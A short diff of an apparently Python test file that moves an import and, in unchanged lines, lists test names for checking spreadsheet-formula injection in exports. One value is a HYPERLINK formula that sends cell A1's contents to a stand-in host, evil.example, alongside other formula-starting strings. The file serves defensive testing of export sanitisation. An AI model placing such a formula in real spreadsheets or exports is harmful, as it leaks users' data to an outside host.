@@ -15,7 +15,7 @@ from corrections import exports
 from corrections.people.idnumber import make_fictional
 from corrections.reminders.jobs import run_job
 from corrections.reports import workbook
-from tests.supervision.conftest import open_case, user
+from tests.helpers import open_case, user
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 NAMES = (HYPERLINK, "-1+2", "@SUM(A1)", "+86 电话", "=1+1")  # names are stripped
